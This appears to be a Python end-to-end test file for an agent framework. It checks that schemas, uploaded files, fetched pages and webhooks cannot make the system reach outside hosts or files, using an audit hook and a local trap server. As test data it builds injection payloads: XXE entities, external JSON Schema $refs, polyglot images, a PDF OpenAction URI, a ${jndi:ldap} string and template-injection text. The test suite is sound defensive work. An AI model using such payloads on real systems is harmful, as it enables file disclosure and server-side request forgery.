"""Nothing of ours opens an address or a file that a caller or a model named, but the server, the model and `fetch`.

Each process of a project runs with an audit hook, which notes what it connects to, resolves and opens. Hooks cannot be
removed, so none is added to the process of the tests. What lies in wait counts its visitors, too.
"""

import asyncio
import hashlib
import hmac
import json
import subprocess
import sys
from collections.abc import AsyncIterator, Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any
from uuid import uuid4

import httpx
import pytest
from temporalio.client import WorkflowFailureError

from perdure.client.connection import register_search_attributes
from perdure.testkit.model_server import ScriptedAnswer, ScriptedModel, calls
from tests.e2e.projects import (
    ROOT,
    CommandResult,
    MakeProject,
    Process,
    Project,
    Served,
    goal_of,
    serve,
    turn_of,
    use_model,
)
from tests.gateway.conftest import make_token
from tests.media_files import image_bytes, pdf_bytes
from tests.waiting import PATIENCE, until

HOOK = """
import json, os, sys

_HERE = os.path.dirname(__file__)
with open(os.path.join(_HERE, "homes.json")) as file:
    _HOMES = tuple(json.load(file))
_LOG = os.open(os.path.join(_HERE, "seen.jsonl"), os.O_WRONLY | os.O_APPEND | os.O_CREAT)

def _note(event, args):
    if event == "open":
        if not isinstance(args[0], (str, bytes)):
            return
        what = os.path.abspath(os.fsdecode(args[0]))
        if what.startswith(_HOMES):
            return
    elif event == "socket.connect":
        if isinstance(args[1], (str, bytes)):
            return
        what = "%s:%s" % tuple(args[1][:2])
    elif event in ("socket.getaddrinfo", "socket.gethostbyname", "urllib.Request"):
        what = os.fsdecode(args[0] or "")
    else:
        return
    os.write(_LOG, (json.dumps([event, what, sys.argv[:3]]) + "\\n").encode())

sys.addaudithook(_note)
"""
SYSTEM = ("/proc/", "/dev/", "/sys/", "/usr/share/zoneinfo", "/usr/lib/", "/usr/share/", "/etc/ssl/", "/etc/localtime")
SYSTEM_FILES = ("/etc/mime.types", "/etc/os-release", "/etc/debian_version", "/etc/apache2/mime.types", "/etc/httpd/")
SECRET = "the secret of a file outside"
HOOK_SECRET = "a secret that is only for tests"
AGENTS = {
    "agents/default.md": "---\ndescription: Tests.\ntools: [fetch, show]\npeers: [finder]\n---\nYou are tested.\n",
    "agents/finder.md": "---\ndescription: Finds.\ntools: []\n---\nYou find.\n",
}
PROJECT = """
[model]
sees = true

[fetch]
allow_hosts = ["{pages}"]

[tools.show]
kind = "python"
target = "shows:show"

[gateway.webhooks.github]
scheme = "github"
secret_env = "HOOK_GITHUB"

[[start]]
name = "issues"
webhook = "github"
on = ["issues.opened"]
goal = "say: {{title}} {{body}}"
fields = {{ title = "event.issue.title", body = "event.issue.body" }}
"""
Json = dict[str, Any]


@dataclass
class Trap:
    """A server that answers every path with a schema, and a file; both should never be asked for. `pages` may be."""

    address: str
    file: Path
    visits: list[str]

    @property
    def targets(self) -> tuple[str, ...]:
        return f"http://{self.address}/s", self.file.as_uri(), f"ftp://{self.address}/s", f"//{self.address}/s", "other"

    def schemas(self) -> list[Json]:
        """Each leads out of itself in another way."""
        inner: list[Json] = [{"$ref": f"{target}#/zz"} for target in self.targets]
        inner += [{"$dynamicRef": self.targets[0]}, {"$id": f"http://{self.address}/a", "$ref": "s"}]
        inner += [{"$defs": {"a": {"$ref": self.targets[1]}}, "items": {"$ref": "#/$defs/a"}}]
        return [{"type": "object", "properties": {"a": schema}} for schema in inner]


@contextmanager
def listening(body: bytes, content_type: str) -> Iterator[tuple[str, list[str]]]:
    """A server that answers with the body, and the paths that were asked for."""
    visits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            visits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"127.0.0.1:{server.server_address[1]}", visits
    finally:
        server.shutdown()
        server.server_close()


def hostile_files(trap: Trap) -> dict[str, bytes]:
    """Images and PDF that name what lies outside of them."""
    http, file = trap.targets[:2]
    svg = f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{http}'/></svg>"
    entity = f"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM '{file}'>]><svg>&x;</svg>"
    pdf = pdf_bytes(1).replace(
        b"/Type /Catalog", f"/Type /Catalog /OpenAction << /S /URI /URI ({http}) >> /F ({file})".encode()
    )
    return {
        "a.svg": svg.encode(),
        "entity.svg": entity.encode(),
        "polyglot.gif": image_bytes("GIF") + svg.encode(),
        "polyglot.png": image_bytes("PNG") + pdf,
        "linked.pdf": pdf,
        "behind.pdf": entity.encode() + pdf,
        "text.eps": f"%!PS-Adobe-3.0 EPSF-3.0\n({file}) run\n".encode(),
    }


def page_of(trap: Trap) -> bytes:
    http, file = trap.targets[:2]
    return f"""<!DOCTYPE html [<!ENTITY x SYSTEM "{file}">]>
<html><head><base href="{http}"><link rel=stylesheet href="{http}">
<meta http-equiv=refresh content="0;url={http}"><script src="{http}"></script></head><body>&x;<img src="{http}">
<iframe src="{file}"></iframe><object data="{http}"></object><p>A page.</p></body></html>""".encode()


@dataclass
class Hooked:
    """A project whose processes all have the hook."""

    project: Project
    served: Served
    trap: Trap
    pages: str
    allowed: set[str]
    log: Path
    model: ScriptedModel
    url: str = ""
    token: str = ""

    def perdure(self, *args: str, project: Project | None = None, **env: str) -> CommandResult:
        command = [str(Path(sys.executable).with_name("perdure")), *args]
        return self.python(*command, project=project, **env)

    def python(self, *command: str, project: Project | None = None, **env: str) -> CommandResult:
        project = project or self.project
        done = subprocess.run(
            command,
            cwd=project.folder,
            env=project.environment(env),
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=PATIENCE,
            check=False,
        )
        return CommandResult(done.returncode, done.stdout, done.stderr)

    async def run(self, goal: str, **payload: Any) -> Json:
        """Start a run by the gateway, and return what it answers in the end."""
        answer = await self.post("/v1/runs", {"payload": {"goal": goal, **payload}})
        assert answer.status_code == 202, answer.text
        return await self.served.client.get_workflow_handle(f"run:{answer.json()['run_id']}").result()  # type: ignore[no-any-return]

    async def post(self, path: str, body: Json) -> httpx.Response:
        async with self.http as http:
            return await http.post(path, json=body)

    @property
    def http(self) -> httpx.AsyncClient:
        headers = {"Authorization": f"Bearer {self.token}"}
        return httpx.AsyncClient(base_url=self.url, headers=headers, timeout=60, trust_env=False)

    def strangers(self) -> list[Any]:
        """What the processes reached that they should not."""
        seen = [json.loads(line) for line in self.log.read_text().splitlines()]
        assert any(event == "socket.connect" for event, *_ in seen)  # the hook is at work
        return [entry for entry in seen if entry[1] not in self.allowed and not entry[1].startswith(SYSTEM_FILES)]


@contextmanager
def started(project: Project, *command: str) -> Iterator[Process]:
    """A process of the project while the block runs. It starts a Python of its own, which has the hook."""
    process = subprocess.Popen(
        command,
        cwd=project.folder,
        env=project.environment(),
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
    )
    with process:
        try:
            yield Process(process)
        finally:
            process.kill()


@pytest.fixture(scope="module")
def trap(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Trap]:
    file = tmp_path_factory.mktemp("outside") / "secret.json"
    file.write_text(json.dumps({"type": "integer", "description": SECRET}))
    with listening(file.read_bytes(), "application/json") as (address, visits):
        yield Trap(address, file, visits)


@pytest.fixture(scope="module")
async def hooked(
    make_project: MakeProject, trap: Trap, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[Hooked]:
    hook = tmp_path_factory.mktemp("hook")
    (hook / "sitecustomize.py").write_text(HOOK)
    with listening(page_of(trap), "text/html") as (pages, _), ScriptedModel(replies_of(trap, pages)) as model:
        project = make_project(PYTHONPATH=str(hook), HOOK_GITHUB=HOOK_SECRET, **use_model(model))
        project.env["TMPDIR"] = str(project.folder)
        homes = [tmp_path_factory.getbasetemp() / "e2e", hook, sys.prefix, sys.base_prefix, ROOT, ROOT.resolve()]
        (hook / "homes.json").write_text(json.dumps([*map(str, homes), *SYSTEM]))
        project.write_all({"perdure.toml": PROJECT.format(pages=pages), "shows.py": SHOWS, **AGENTS})
        for name, data in hostile_files(trap).items():
            (project.folder / name).write_bytes(data)
        async with serve(project) as served:
            await register_search_attributes(served.client)
            project.env["TEMPORAL_ADDRESS"] = served.address
            model_address = model.base_url.removeprefix("http://")
            allowed = {served.address, model_address, pages, "127.0.0.1"}
            it = Hooked(project, served, trap, pages, allowed, hook / "seen.jsonl", model)
            perdure = str(Path(sys.executable).with_name("perdure"))
            with started(project, sys.executable, str(ROOT / "worker.py")) as worker:
                worker.until("worker ready")
                it.token = await asyncio.to_thread(make_token, project, "tester", "runs:start", "runs:read")
                with started(project, perdure, "gateway", "--port", "0") as gateway:
                    it.url = gateway.until("gateway").split()[1]
                    it.allowed.add(it.url.removeprefix("http://"))
                    gateway.until("Ctrl-C")
                    yield it


def replies_of(trap: Trap, pages: str) -> Callable[[Json], ScriptedAnswer]:
    """By the first word of the goal: `delegate` tries each schema, `fetch` reads a page, `show` returns each file."""

    def reply(body: Json) -> ScriptedAnswer:
        goal, turn, schemas = goal_of(body), turn_of(body), trap.schemas()
        if "delegate" in goal and turn < len(schemas):
            task = {"id": "t", "agent": "finder", "instructions": "Find it.", "output_schema": schemas[turn]}
            return calls(("delegate", {"subtasks": [task]}))
        if "fetch" in goal and turn == 0:
            return calls(("fetch", {"url": f"http://{pages}/page"}))
        if "show" in goal and turn == 0:
            return calls(*(("show", {"name": name}) for name in hostile_files(trap)))
        return calls(("finish", {"outcome": f"done: {json.dumps(body['messages'])[-20000:]}"}))

    return reply


SHOWS = '''
from pathlib import Path

def show(name: str) -> object:
    """Return a file's bytes, or its text."""
    data = (Path(__file__).parent / name).read_bytes()
    return data if name.endswith((".gif", ".png", ".pdf")) else data.decode()
'''
CLIENT = """
import asyncio, json, sys
from typing import Annotated, Any
from pydantic import WithJsonSchema
from perdure import Perdure, ReportedError

async def main():
    async with Perdure() as perdure:
        for schema in json.loads(sys.argv[1]):
            try:
                await perdure.run("say", result_type=Annotated[Any, WithJsonSchema(schema)])
            except ReportedError as error:
                print(error)

asyncio.run(main())
"""
OUTSIDE = "which is not in the schema: nothing outside of it is read"


async def test_no_schema_leads_out_by_any_door_of_a_start(hooked: Hooked) -> None:
    schemas = hooked.trap.schemas()
    for schema in schemas:
        refused = await hooked.post("/v1/runs", {"payload": {"goal": "say", "output_schema": schema}})
        assert (refused.status_code, OUTSIDE in refused.text, SECRET in refused.text) == (422, True, False)
        event = {"type": "agentic.start", "payload": {"goal": "say", "output_schema": schema}}
        handle = await hooked.served.client.start_workflow(
            "AgentRun", event, id=f"run:{uuid4().hex}", task_queue="perdure"
        )
        with pytest.raises(WorkflowFailureError) as failure:
            await handle.result()
        assert OUTSIDE in str(failure.value.cause)
    hooked.project.write("out.json", json.dumps(schemas[1]))
    done = await asyncio.to_thread(hooked.perdure, "run", "--output-schema", "out.json", "say")
    assert OUTSIDE in done.error()
    done = await asyncio.to_thread(hooked.python, sys.executable, "-c", CLIENT, json.dumps(schemas))
    lines = done.out.splitlines()
    assert len(lines) == len(schemas), done
    assert all(OUTSIDE in line or "has no JSON Schema" in line for line in lines), done
    assert (hooked.strangers(), hooked.trap.visits) == ([], [])


async def test_no_schema_of_a_model_leads_out(hooked: Hooked) -> None:
    done = json.dumps(await hooked.run("delegate"))
    assert done.count("nothing outside of it is read") == len(hooked.trap.schemas())
    assert SECRET not in done
    assert (hooked.strangers(), hooked.trap.visits) == ([], [])


def spoil(project: Project, trap: Trap) -> Iterator[tuple[str, Mapping[str, str], Sequence[str]]]:
    """Yield files of a project with a schema that leads out, each with a command that reads them, and the place."""
    schema = json.dumps(trap.schemas()[1])
    for setting in ("input_schema", "output_schema"):
        yield setting, {"agents/finder.md": f"---\ntools: []\n{setting}: {schema}\n---\nYou find.\n"}, ("agents",)
        written = {"agents/finder.md": f"---\ntools: []\n{setting}: out.json\n---\nYou find.\n", "out.json": schema}
        yield setting, written, ("doctor",)
    tool = (
        '[tools.look]\nkind = "http"\nurl = "http://127.0.0.1:9/"\ndescription = "looks"\ninput_schema = "out.json"\n'
    )
    yield "input_schema", {"perdure.toml": tool, "out.json": schema}, ("tools",)


async def test_no_schema_of_a_project_leads_out(hooked: Hooked, make_project: MakeProject) -> None:
    for place, files, command in spoil(hooked.project, hooked.trap):
        project = make_project(**hooked.project.env)
        project.write_all({"perdure.toml": "", **files})
        done = await asyncio.to_thread(hooked.perdure, *command, project=project)
        assert OUTSIDE in done.out + done.err, (command, done)
        assert place in done.out + done.err
        assert "Traceback" not in done.err
    assert (hooked.strangers(), hooked.trap.visits) == ([], [])


async def test_no_schema_of_an_mcp_server_leads_out(hooked: Hooked, make_project: MakeProject) -> None:
    project = make_project(**hooked.project.env)
    state = project.folder / "state"
    state.mkdir()
    schemas = hooked.trap.schemas()
    tools = [{"name": f"in{at}", "description": "x", "inputSchema": schema} for at, schema in enumerate(schemas)]
    plain = {"description": "x", "inputSchema": {"type": "object"}}
    tools += [{"name": f"out{at}", **plain, "outputSchema": schema} for at, schema in enumerate(schemas)]
    (state / "tools.json").write_text(json.dumps([*tools, {"name": "look", **plain}]))
    server = {"command": sys.executable, "args": [str(ROOT / "tests" / "mcp" / "hostile.py"), str(state), "plain"]}
    project.write(".mcp.json", json.dumps({"mcpServers": {"odd": server}}))
    done = await asyncio.to_thread(hooked.perdure, "tools", "--accept", "odd", project=project)
    assert done.code == 0, done
    for at in range(len(schemas)):
        assert f"in{at}" in done.out + done.err
        assert f"out{at}" in done.out + done.err
    assert list(json.loads((project.folder / "mcp.lock.json").read_text())["servers"]["odd"]["tools"]) == ["look"]
    assert (hooked.strangers(), hooked.trap.visits) == ([], [])


async def test_no_file_that_a_model_sees_leads_out(hooked: Hooked) -> None:
    for name, data in hostile_files(hooked.trap).items():
        async with hooked.http as http:
            kept = await http.post("/v1/files", params={"name": name}, content=data)
        assert kept.status_code in (200, 201, 400, 413, 415, 422), kept.text
        if kept.status_code < 300:
            attached = [{"name": name, "sha256": kept.json()["sha256"]}]
            assert (await hooked.run("say", attachments=attached))["type"] == "agent.completed"
        await asyncio.to_thread(hooked.perdure, "run", "say", "--attach", name)
    assert (await hooked.run("show"))["type"] == "agent.completed"
    assert (hooked.strangers(), hooked.trap.visits) == ([], [])


async def test_no_page_and_no_event_leads_out(hooked: Hooked) -> None:
    assert "A page." in json.dumps(await hooked.run("fetch"))
    trap = hooked.trap
    text = f"{{0.__class__}} {{{{title}}}} ${{jndi:ldap://{trap.address}/a}} {{% include '{trap.file}' %}}"
    ann = {"login": "ann", "id": 3, "type": "User"}
    issue = {
        "number": 12,
        "title": text,
        "body": text,
        "updated_at": f"{datetime.now(UTC):%Y-%m-%dT%H:%M:%SZ}",
        "user": ann,
    }
    event = {"action": "opened", "issue": issue, "repository": {"id": 1, "full_name": "a/b"}, "sender": ann}
    body = json.dumps(event).encode()
    signature = "sha256=" + hmac.new(HOOK_SECRET.encode(), body, hashlib.sha256).hexdigest()
    headers = {"X-Hub-Signature-256": signature, "X-GitHub-Event": "issues", "X-GitHub-Delivery": uuid4().hex}
    async with hooked.http as http:
        done = await http.post(
            "/v1/webhooks/github", content=body, headers={**headers, "Content-Type": "application/json"}
        )
    assert done.status_code == 200, done.text

    await until(lambda: any("jndi" in str(request) for request in hooked.model.requests))
    assert (hooked.strangers(), hooked.trap.visits) == ([], [])


async def test_the_hook_notes_what_reaches_out(hooked: Hooked) -> None:
    http, file = hooked.trap.targets[:2]
    code = f"from urllib.request import urlopen; urlopen({http!r}); urlopen({file!r})"
    assert (await asyncio.to_thread(hooked.python, sys.executable, "-c", code)).code == 0
    reached = {(event, what) for event, what, _ in hooked.strangers()}
    hooked.log.write_text("")
    assert {("socket.connect", hooked.trap.address), ("open", str(hooked.trap.file))} <= reached
    assert hooked.trap.visits == ["/s"]
    hooked.trap.visits.clear()
